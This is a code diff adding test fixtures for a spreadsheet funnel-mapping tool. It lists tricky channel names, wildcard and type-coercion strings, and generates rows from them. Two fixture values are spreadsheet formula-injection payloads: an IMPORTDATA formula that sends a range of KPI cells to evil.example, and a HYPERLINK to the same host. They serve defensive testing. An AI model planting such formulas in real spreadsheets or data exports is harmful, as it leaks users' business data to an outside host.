@@ -61,3 +61,25 @@ export function adMapping(sheetName = "Ads"): FunnelMapping {
     date: col("Day"), channel: col("Campaign"), spend: col("Cost"), revenue: col("Conv. value"),
   };
 }
+
+/** The values issue 12 names, as a lead form or an ad export could carry them, and neighbours they must not swallow. */
+export const HOSTILE_CHANNELS = [
+  `=IMPORTDATA("https://evil.example/c?v="&TEXTJOIN(",",1,'KPI Summary'!B15:B28))`,
+  `=HYPERLINK("https://evil.example/"&B20,"click")`,
+  "TRUE", "FALSE", "00123", "123", "+1", "-5", "*", "?", "~", "~*", "<>Paid search", ">5", "=x", "'quoted",
+  "Paid search", "paid  search ", "Café", "Cafe", "#N/A", "5%", "$1,200", "1/2/2025", "2025-01-31",
+];
+
+export const HOSTILE_HEADERS = ["Date", "Channel", "Spend", "Sessions", "Leads", "New customers", "Revenue"];
+
+/** Each channel on a few days, with amounts that differ per channel so a wrong match shows. */
+export function hostileRows(): CellValue[][] {
+  const rows: CellValue[][] = [];
+  HOSTILE_CHANNELS.forEach((channel, i) => {
+    for (const day of [3, 12, 20]) {
+      rows.push([new Date(2025, 0, day), channel, 100 + 37 * i + day, 1000 + 11 * i, 40 + i, 3 + (i % 5), 300 + 13 * i]);
+    }
+  });
+  return rows;
+}
+
